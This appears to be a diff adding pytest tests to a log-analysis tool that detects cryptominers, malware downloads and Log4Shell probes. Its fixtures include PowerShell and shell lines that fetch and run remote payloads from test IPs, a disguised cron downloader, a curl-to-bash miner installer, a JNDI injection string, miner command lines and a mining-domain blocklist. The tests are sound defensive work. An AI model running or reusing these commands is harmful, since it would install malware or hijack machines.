@@ -294,3 +294,242 @@ def test_a_scan_from_inside_that_a_sensor_saw(kanaria: Kanaria, tmp_path: Path, 
         kanaria, tmp_path, SCANS[name].replace("10.0.2.15", "203.0.113.9").replace("192.0.2.44", "10.0.2.44")
     )
     assert outside.severity == "silent", "who scans from outside is one of thousands"
+
+
+# -- texts that name miners, and what machines say --------------------------------------------------------------------
+
+TEXTS = {
+    "an article": "# XMRigの使い方\n\nXMRigはMoneroをマイニングするプログラムです。\n\n```\n./xmrig -o pool.supportxmr.com:443 -u YOUR_WALLET -k --tls\n```\n",
+    "instructions": "How to mine Monero. Then run:\n\n    xmrig.exe -o pool.hashvault.pro:443 -u YOUR_WALLET_ADDRESS -p x --tls\n",
+    "a commit": "commit 1a2b3c4d5e6f\nAuthor: Alice <alice@example.org>\n\n    Block coinhive.com and pool.supportxmr.com in the filter list\n",
+    "a history with an installer": "sudo apt update\ncurl -fsSL https://get.example.com | sh\ndocker compose up -d\n",
+    "a shell's history": ": 1764929564:0;curl -LsSf https://install.example.com/uv.sh | sh\n",
+    "a build with an installer": (
+        "2025-12-05T10:12:44.1234567Z ##[group]Run curl -LsSf https://install.example.com/uv.sh | sh\n"
+        "2025-12-05T10:12:44.1234567Z shell: /usr/bin/bash -e {0}\n"
+    ),
+}  # fmt: skip
+NOTHING = {
+    "a list of names to block": "# Cryptomining\n0.0.0.0 coinhive.com\n0.0.0.0 pool.supportxmr.com\n",
+    "rules of a sensor": 'alert dns $HOME_NET any -> any any (msg:"ET COINMINER Observed DNS Query"; dns.query; content:"pool.supportxmr.com"; sid:1;)\n',
+    "mails from a marketplace": (
+        "Dec  5 10:12:44 mx1 postfix/smtpd[812]: NOQUEUE: reject: RCPT from unknown[198.51.100.7]: 554 5.7.1 Relay access denied;"
+        " from=<news@nicehash.com> to=<b@example.org> proto=ESMTP helo=<mail>\n"
+        "Dec  5 10:12:45 mx1 postfix/cleanup[812]: A1: warning: header Subject: Your NiceHash mining pool payout from"
+        " unknown[198.51.100.8]; from=<news@nicehash.com> to=<b@example.org> proto=ESMTP\n"
+    ),
+    "a reader of news, by a proxy": "".join(
+        f"176492956{n}.123    186 192.168.1.20 TCP_TUNNEL/200 4523 CONNECT {host}:443 - HIER_DIRECT/203.0.113.50 -\n"
+        for n, host in enumerate(("www.coindesk.com", "api.binance.com", "etherscan.io", "nicehash.com", "www.f2pool.com"))
+    ),
+    "a reader of news, by a resolver": "".join(
+        f"Dec  5 10:12:4{n} dnsmasq[812]: query[A] {host} from 192.168.1.20\n"
+        for n, host in enumerate(("www.coindesk.com", "api.coingecko.com", "www.nicehash.com", "xmrchain.net", "xmrig.com"))
+    ),
+    "a mirror of packages": (
+        '198.51.100.7 - - [05/Dec/2025:10:12:44 +0000] "GET /debian/pool/main/x/xmrig/xmrig_6.18.0.orig.tar.gz HTTP/1.1" 200'
+        ' 2400123 "-" "Debian APT-HTTP/1.3 (2.6.1)"\n'
+    ),
+    "PowerShell that installs and looks": _json(*(
+        {"TimeCreated": "2025-12-05T10:12:44.123Z", "Id": 4104, "ProviderName": "Microsoft-Windows-PowerShell",
+         "LogName": "Microsoft-Windows-PowerShell/Operational", "MachineName": "SV01",
+         "Message": f"Creating Scriptblock text (1 of 1):\r\n{text}\r\n\r\nScriptBlock ID: 0f3c\r\nPath: "}
+        for text in (
+            "iex ((New-Object System.Net.WebClient).DownloadString('https://install.example.org/install.ps1'))",
+            "Get-Process | Sort-Object CPU -Descending",
+        )
+    )),
+    "a busy machine of science": (
+        "  PID USER      PR  NI    VIRT    RES    SHR S  %CPU %MEM     TIME+ COMMAND\n"
+        " 4021 alice     20   0 2442088 2.3g   3244 S 6398.7 29.4   1234:56 gmx_mpi mdrun -deffnm md\n"
+    ),
+    "a graphics card that learns": (
+        "| NVIDIA-SMI 550.54.15   Driver Version: 550.54.15   CUDA Version: 12.4     |\n"
+        "|  GPU   GI   CI        PID   Type   Process name                GPU Memory |\n"
+        "|    0   N/A  N/A      4021      C   python3 train.py              35112MiB |\n"
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_a_text_about_miners_accuses_nobody(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
+    said = hear(kanaria, tmp_path, TEXTS[name])
+    assert said.rules <= {"mining_named_in_text", "installer_named_in_text"}
+    assert LOUDNESS.index(said.severity) <= LOUDNESS.index("low")
+    assert said.status in (2, 3) and not said.devices, "it is no log, and the status says that it was only searched"
+    assert "Compromised" not in said.words and "乗っ取" not in said.words
+
+
+@pytest.mark.parametrize("name", NOTHING)
+def test_neighbours_of_miners_are_silent(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
+    said = hear(kanaria, tmp_path, NOTHING[name])
+    assert (said.severity, said.rules) == ("silent", frozenset())
+
+
+_EVENT_VIEWER = """ログの名前:         Microsoft-Windows-PowerShell/Operational
+ソース:           Microsoft-Windows-PowerShell
+日付:            2025/12/05 19:12:44
+イベント ID:       4104
+タスクのカテゴリ:      リモート コマンドを実行します。
+レベル:           警告
+キーワード:         なし
+ユーザー:          EXAMPLE\\svc
+コンピューター:       SV01.example.local
+説明:
+Scriptblock テキストを作成しています (1 個中 1 個目):
+$wc = New-Object System.Net.WebClient; $wc.DownloadFile("http://203.0.113.77/x.zip","C:\\Windows\\Temp\\x.zip"); Start-Process C:\\Windows\\Temp\\x.exe
+
+ScriptBlock ID: 0f3c
+パス:
+"""
+_DEFENDER = """Event[0]:
+  ログの名前: Microsoft-Windows-Windows Defender/Operational
+  ソース: Microsoft-Windows-Windows Defender
+  日付: 2025-12-05T19:12:44.1230000Z
+  イベント ID: 1116
+  タスク: N/A
+  レベル: 警告
+  オペコード: 情報
+  キーワード: N/A
+  ユーザー: S-1-5-18
+  ユーザー名: NT AUTHORITY\\SYSTEM
+  コンピューター: PC01.example.local
+  説明:
+Microsoft Defender ウイルス対策 は、マルウェアを検出しました。
+ \t名前: Trojan:Win64/CoinMiner.AMX!MTB
+ \tID: 2147780199
+ \t重大度: 重大
+ \tカテゴリ: トロイの木馬
+ \tパス: file:_C:\\Users\\Public\\svchost.exe
+"""
+MACHINES: dict[str, tuple[str, str, str, str | None]] = {
+    "an event copied from the Event Viewer": (_EVENT_VIEWER, "high", "host_command_delivers", "SV01.example.local"),
+    "a script block as JSON": (
+        _json({
+            "TimeCreated": "2025-12-05T10:12:44.123Z", "Id": 4104, "ProviderName": "Microsoft-Windows-PowerShell",
+            "LogName": "Microsoft-Windows-PowerShell/Operational", "MachineName": "SV01.example.local",
+            "Message": "Creating Scriptblock text (1 of 1):\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')\r\n\r\nScriptBlock ID: 0f3c",
+        }), "high", "script_fetched_and_run", "SV01.example.local",
+    ),
+    "Defender's find, pasted without its page": (_DEFENDER, "high", "antivirus_mining_alert", "PC01.example.local"),
+    "an application whose command failed": (
+        " ⨯ Error: Command failed: wget http://203.0.113.99/nuts/x86 -O /tmp/a; chmod 777 /tmp/a; /tmp/a\n"
+        "    at genericNodeError (node:internal/errors:983:15)\n", "high", "host_command_delivers", None,
+    ),
+    "a history with a set-up script": (
+        f"#1764929564\ncurl -sL https://raw.example.com/setup.sh | LC_ALL=en_US.UTF-8 bash -s {WALLET}\n", "high",
+        "host_command_delivers", None,
+    ),
+    "a downloader under another name": (
+        "*/2 * * * * cd1 -fsSL http://203.0.113.77/cleanfda/init.sh | sh\n", "high", "host_command_delivers", None,
+    ),
+    "a program behind /proc": (
+        "lrwxrwxrwx 1 root root 0 Dec  5 10:12 /proc/4021/exe -> '/tmp/.x/xmrig (deleted)'\n", "high",
+        "miner_program_started", None,
+    ),
+    "htop": (
+        "    PID USER       PRI  NI  VIRT   RES   SHR S  CPU%▽MEM%   TIME+  Command\n"
+        "   4021 www-data    20   0 2384M 2355M  3244 S 398.0 29.4  5h31:22 ./xmrig --config=/tmp/.c.json\n", "high",
+        "miner_program_started", None,
+    ),
+    "a graphics card": (
+        "| NVIDIA-SMI 550.54.15   Driver Version: 550.54.15   CUDA Version: 12.4     |\n"
+        "|  GPU   GI   CI        PID   Type   Process name                GPU Memory |\n"
+        "|    0   N/A  N/A      4021      C   ./t-rex                        5112MiB |\n", "high",
+        "miner_program_started", None,
+    ),
+    "docker ps": (
+        "CONTAINER ID   IMAGE                  COMMAND                  CREATED        STATUS        PORTS     NAMES\n"
+        '3ad7b26ded6d   example/xmrig:latest   "./xmrig --url poo…"     2 hours ago    Up 2 hours              cranky_bell\n'
+        '1ad7b26ded6e   nginx:1.27             "/docker-entrypoint.…"   3 weeks ago    Up 3 weeks    80/tcp    web\n', "high",
+        "miner_program_started", None,
+    ),
+    "a package that was installed": (
+        "2025-12-05 10:12:44 install xmrig:amd64 <none> 6.18.0+dfsg-1\n", "medium", "mining_program_named_in_log", None,
+    ),
+    "a resolver nobody knows, JSON": (
+        _json({"Status": 0, "Question": [{"name": POOL, "type": 1}]}), "medium", "mining_pool_named_in_log", None,
+    ),
+    "a resolver nobody knows, CSV": (
+        f"timestamp,domain,type,client\n2025-12-05T10:12:44.123Z,{POOL},A,198.51.100.9\n", "medium",
+        "mining_pool_named_in_log", None,
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", MACHINES)
+def test_what_a_machine_says_of_itself_is_heard(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
+    text, severity, rule, device = MACHINES[name]
+    said = hear(kanaria, tmp_path, text)
+    assert rule in said.rules and said.status == 1
+    assert (said.severity, said.devices) == (severity, frozenset({device} - {None}))
+
+
+# -- miners' own words ------------------------------------------------------------------------------------------------
+
+MINERS = {
+    "BzMiner": (
+        "BzMiner: v21.5.3\n10:12:44 [bzminer] Connecting to stratum+tcp://kas.2miners.com:2020\n"
+        "10:13:05 [bzminer] kaspa: share accepted (41 ms)\n", "critical",
+    ),
+    "OneZeroMiner": (
+        "10:12:44 INFO  OneZeroMiner 1.4.0\n10:12:45 INFO  Connected to pool dynex.herominers.com:1120\n"
+        "10:13:05 INFO  GPU#0 share accepted, 41ms\n", "critical",
+    ),
+    "Rigel": (
+        "[10:12:44] Rigel v1.19.1\n[10:12:44] Connected to kaspa.herominers.com:1206\n"
+        "[10:13:05] [GPU0] Solution accepted (41 ms)\n", "critical",
+    ),
+    "NiceHash QuickMiner": (
+        "[2025-12-05 10:12:44] [QuickMiner] Excavator started. Connecting to nhmp-ssl.eu.nicehash.com:443\n"
+        "[2025-12-05 10:12:45] [Excavator] share accepted\n", "critical",
+    ),
+    "Braiins OS": ("2025-12-05T10:12:44.123Z INFO bosminer::client: Connected to stratum+tcp://stratum.braiins.com:3333\n", "high"),
+    "Bitaxe": (
+        "I (12345) stratum_task: Connecting to: stratum+tcp://public-pool.io:21496 (203.0.113.50)\n"
+        'I (12400) stratum_api: tx: {"id": 1, "method": "mining.subscribe", "params": ["bitaxe/BM1366/v2.4.0"]}\n'
+        "I (22600) stratum_task: message result accepted\n", "critical",
+    ),
+    "NerdMiner": (
+        "*** Client: connecting to public-pool.io:21496\n"
+        ">>> Completed 12 share(s), 3400 Khashes, avg. hashrate 55.21 KH/s\n", "high",
+    ),
+    "monerod that mines": ("2025-12-05 10:12:44.123\tI Mining has started with 4 threads, good luck!\n", "high"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", MINERS)
+def test_the_log_of_a_miner_is_one(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
+    text, severity = MINERS[name]
+    said = hear(kanaria, tmp_path, text)
+    assert said.rules & {"miner_own_log", "miner_own_log_idle"}
+    assert (said.severity, said.status) == (severity, 1)
+    assert said.document["inputs"][0]["format"] in ("miner-log", "mail") and "allow_if_yours" in said.advice
+
+
+def test_a_node_that_only_follows_the_chain_is_no_miner(kanaria: Kanaria, tmp_path: Path) -> None:
+    said = hear(
+        kanaria,
+        tmp_path,
+        "2025-12-05 10:12:44.123\tI Synced 3290001/3290001\n2025-12-05 10:12:45.123\tI SYNCHRONIZED OK\n",
+    )
+    assert said.severity == "silent"
+
+
+@pytest.mark.parametrize(("before", "after"), [("「", "」"), ("“", "”"), ("(", ")"), ("・", "")])
+def test_a_line_in_quotes_of_a_text_has_its_sender(kanaria: Kanaria, tmp_path: Path, before: str, after: str) -> None:
+    line = '198.51.100.7 - - [05/Dec/2025:10:12:44 +0900] "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 153 "-" "curl"'
+    said = hear(kanaria, tmp_path, f"{before}{line}{after}\n")
+    assert said.rules == {"web_log4shell"}
+    assert said.document["incidents"][0]["entities"]["remotes"] == ["198.51.100.7"]
+
+
+def test_a_connection_that_a_sensor_in_the_kernel_saw(kanaria: Kanaria, tmp_path: Path) -> None:
+    said = hear(kanaria, tmp_path, _json({
+        "process_kprobe": {
+            "process": {"pid": 4021, "binary": "/tmp/.x/xmrig", "arguments": "-c config.json"}, "function_name": "tcp_connect",
+            "args": [{"sock_arg": {"saddr": "10.0.0.5", "sport": 41022, "daddr": "203.0.113.50", "dport": 3333}}],
+        },
+        "node_name": "node-7", "time": "2025-11-12T10:11:12Z",
+    }))  # fmt: skip
+    assert (said.rules, said.severity, said.status) == ({"mining_program_connected"}, "high", 1)
